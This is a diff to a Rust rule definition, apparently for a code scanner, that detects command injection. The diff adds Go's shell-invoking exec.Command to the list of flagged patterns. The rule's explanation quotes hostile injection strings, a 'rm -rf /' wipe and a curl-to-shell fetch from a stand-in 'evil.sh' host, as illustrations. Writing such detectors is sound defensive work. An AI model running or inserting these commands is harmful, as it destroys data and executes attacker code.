@@ -32,7 +32,8 @@ static META: RuleMeta = RuleMeta {
              `execSync` (also through `util.promisify`), `spawn`/`execFile` with `shell: true`, \
              shelljs `exec`, Python's `os.system`, `os.popen`, `subprocess.*` with `shell=True`, \
              and `subprocess.getoutput`. Argument lists without a shell, and values passed \
-             through `shlex.quote` or numeric conversion, are safe.",
+             through `shlex.quote` or numeric conversion, are safe. \
+             Go: `exec.Command(\"sh\", \"-c\", cmd)` with any shell, and a program chosen by the request.",
         ),
         why: Cow::Borrowed(
             "`; rm -rf /`, `$(curl evil.sh | sh)` and backticks run whatever the attacker writes \
